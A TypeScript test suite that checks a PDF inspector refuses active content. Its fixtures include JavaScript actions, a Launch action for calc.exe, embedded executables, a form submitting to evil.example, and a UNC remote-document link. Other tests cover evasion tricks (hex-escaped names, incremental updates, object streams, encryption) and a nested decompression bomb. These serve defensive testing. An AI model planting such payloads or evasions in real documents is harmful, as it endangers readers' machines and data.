import assert from 'node:assert/strict';
import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { PDFDocument, type PDFObject, PDFString, StandardFonts } from '@cantoo/pdf-lib';
import fc from 'fast-check';
import { samplePdf } from '../../../adapters/wire/sample-pdf.ts';
import { wallClock } from '../../../contracts/ports/clock.ts';
import { Fault } from '../../../contracts/ports/fault.ts';
import { type Annotator, makeAnnotator } from './annotate.ts';

/** What has been put into documents, as objects that nothing in the pages leads to. */
const ACTIVE: { readonly [what: string]: (text: (value: string) => PDFString) => object } = {
  'a script as an action': (text) => ({ Type: 'Action', S: 'JavaScript', JS: text('app.alert(1)') }),
  'a script among the names': (text) => ({ Names: { JavaScript: { Names: [text('a'), { JS: text('1') }] } } }),
  'a program that is started': (text) => ({ S: 'Launch', F: text('calc.exe') }),
  'an embedded file': (text) => ({ Type: 'Filespec', F: text('a.exe'), EF: {} }),
  'embedded files among the names': (text) => ({ Names: { EmbeddedFiles: { Names: [text('a')] } } }),
  'a file as an annotation': () => ({ Type: 'Annot', Subtype: 'FileAttachment' }),
  'a form that sends itself': (text) => ({ S: 'SubmitForm', F: text('http://evil.example') }),
  'data that are imported': (text) => ({ S: 'ImportData', F: text('a') }),
  'another document that is opened': (text) => ({ S: 'GoToR', F: text('\\\\\\\\evil.example\\\\a.pdf') }),
  'a document in the document': () => ({ S: 'GoToE', T: {} }),
  'an XFA form': (text) => ({ AcroForm: { XFA: text('x') } }),
  'something that runs by itself': () => ({ Type: 'Page', AA: { O: {} } }),
  media: () => ({ Type: 'Annot', Subtype: 'RichMedia' }),
  'a film': () => ({ S: 'Rendition' }),
};

/** What people need, and is none of it. */
const HARMLESS: { readonly [what: string]: (text: (value: string) => PDFString) => object } = {
  'a link that a person clicks': (text) => ({ S: 'URI', URI: text('https://county.example/verify?no=1') }),
  'a page to begin with': () => ({ OpenAction: { S: 'GoTo', D: [0, 'Fit'] } }),
  'the next page': () => ({ S: 'Named', N: 'NextPage' }),
  'a structure element': () => ({ Type: 'StructElem', S: 'P' }),
  'a text that speaks of it': (text) => ({ Title: text('(JavaScript) and /Launch') }),
};

async function documentWith(put: (text: (value: string) => PDFString) => object): Promise<PDFDocument> {
  const pdf = await PDFDocument.create();
  pdf.addPage().drawText('A TITLE', { font: await pdf.embedFont(StandardFonts.Helvetica) });
  pdf.context.register(pdf.context.obj(put((value) => PDFString.of(value)) as never) as PDFObject);
  return pdf;
}

/** The ways in which it has been hidden. */
const HIDDEN: { readonly [how: string]: (pdf: PDFDocument) => Promise<Uint8Array> } = {
  'as it is': (pdf) => pdf.save({ useObjectStreams: false }),
  'in a compressed object stream': (pdf) => pdf.save({ useObjectStreams: true }),
  'with its names written otherwise': async (pdf) =>
    Buffer.from(
      Buffer.from(await pdf.save({ useObjectStreams: false }))
        .toString('latin1')
        .replaceAll(
          /\/(?=[A-Z])([A-Z])(\w*)/g,
          (_, first: string, rest: string) => `/#${first.charCodeAt(0).toString(16)}${rest}`,
        ),
      'latin1',
    ),
  'in a later state of the file': async (pdf) => {
    const clean = samplePdf(['A TITLE']);
    const objects = Buffer.from(await pdf.save({ useObjectStreams: false })).toString('latin1');
    const added = [...objects.matchAll(/^\d+ 0 obj\n[\s\S]*?\nendobj/gm)].map(([text], at) =>
      text.replace(/^\d+/, String(50 + at)),
    );
    return Buffer.concat([
      clean,
      Buffer.from(`\n${added.join('\n\n')}\ntrailer\n<< /Root 1 0 R /Size 99 >>\nstartxref\n0\n%%EOF\n`, 'latin1'),
    ]);
  },
  'locked against changes, open for everybody': async (pdf) => {
    pdf.encrypt({ userPassword: '', ownerPassword: 'owner', permissions: { modifying: false } });
    return pdf.save({ useObjectStreams: false });
  },
};

describe('PDFs with scripts, launch actions or embedded files', () => {
  let folder: string;
  let annotator: Annotator;
  let count = 0;
  before(async () => {
    folder = await mkdtemp(path.join(tmpdir(), 'active-'));
    annotator = makeAnnotator({ clock: wallClock, timeLimitMs: 60_000 });
  });
  after(async () => {
    await annotator.close();
    await rm(folder, { recursive: true });
  });

  /** What is said of it; null: it may be handed out. */
  async function said(bytes: Uint8Array): Promise<string | null> {
    count += 1;
    const file = path.join(folder, `${count}.pdf`);
    await writeFile(file, bytes);
    try {
      await annotator.inspect(file);
      return null;
    } catch (error) {
      assert.ok(error instanceof Fault, String(error));
      assert.equal(error.kind, 'malformed');
      return error.reason.code;
    } finally {
      await rm(file);
    }
  }

  for (const [what, put] of Object.entries(ACTIVE))
    test(`${what}: refused, however it is hidden`, async () => {
      for (const [how, hide] of Object.entries(HIDDEN))
        assert.equal(await said(await hide(await documentWith(put))), 'activeContent', how);
    });

  for (const [what, put] of Object.entries(HARMLESS))
    test(`${what}: handed out`, async () => {
      for (const [how, hide] of Object.entries(HIDDEN))
        assert.equal(await said(await hide(await documentWith(put))), null, how);
    });

  test('within the bytes of another object, where only the table of the file leads to it', async () => {
    const inside = '<< /S /J#61vaScript /JS (app.alert(1)) >>';
    const pdf = samplePdf([]).toString('latin1').replace('stream\n', `stream\n7 0 obj ${inside} endobj\n`);
    assert.equal(await said(Buffer.from(pdf, 'latin1')), 'activeContent');
  });

  test('what cannot be looked through is not handed out', async () => {
    for (const useObjectStreams of [false, true]) {
      const locked = await documentWith(ACTIVE['a script as an action'] as never);
      locked.encrypt({ userPassword: 'secret', ownerPassword: 'owner', permissions: {} });
      // What a lock hides are texts and streams, not what an object is; where it hides objects too, nothing is known of them.
      const code = await said(await locked.save({ useObjectStreams }));
      assert.ok(code === 'activeContent' || code === 'cannotInspect', String(code));
    }
    assert.equal(await said(Buffer.from('%PDF-1.7\nnothing of the kind\n%%EOF')), 'cannotInspect');
    // A megabyte that unfolds to a gigabyte.
    const bomb = deflateSync(Buffer.alloc(2 ** 28)).toString('latin1');
    const stream = `<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length ${deflateSync(Buffer.from(bomb, 'latin1')).length} >>`;
    const packed = deflateSync(Buffer.from(bomb, 'latin1')).toString('latin1');
    const pdf = samplePdf([])
      .toString('latin1')
      .replace('xref\n', `9 0 obj\n${stream}\nstream\n${packed}\nendstream\nendobj\nxref\n`);
    const small = makeAnnotator({ clock: wallClock, timeLimitMs: 60_000, maxMemory: 2 ** 26 });
    const file = path.join(folder, 'bomb.pdf');
    await writeFile(file, pdf, 'latin1');
    await assert.rejects(
      small.inspect(file),
      (error) => error instanceof Fault && error.reason.code === 'cannotInspect',
    );
    await small.close();
  });

  test('documents of offices are handed out', async () => {
    assert.equal(await said(samplePdf(['A TITLE', 'of two lines'])), null);
  });

  test('whatever is done to its bytes, it is handed out or refused, and the thread goes on', async () => {
    const whole = await (await documentWith(ACTIVE['a script as an action'] as never)).save({ useObjectStreams: true });
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 20 }),
        async (changes) => {
          const bytes = Buffer.from(whole);
          for (const [at, value] of changes) bytes[at] = value;
          const code = await said(bytes);
          assert.ok(code === null || code === 'activeContent' || code === 'cannotInspect', String(code));
        },
      ),
      { numRuns: 60 },
    );
    assert.equal(await said(samplePdf(['A TITLE'])), null);
    assert.deepEqual(
      (await readdir(folder)).filter((name) => name !== 'bomb.pdf'),
      [],
    );
  });
});
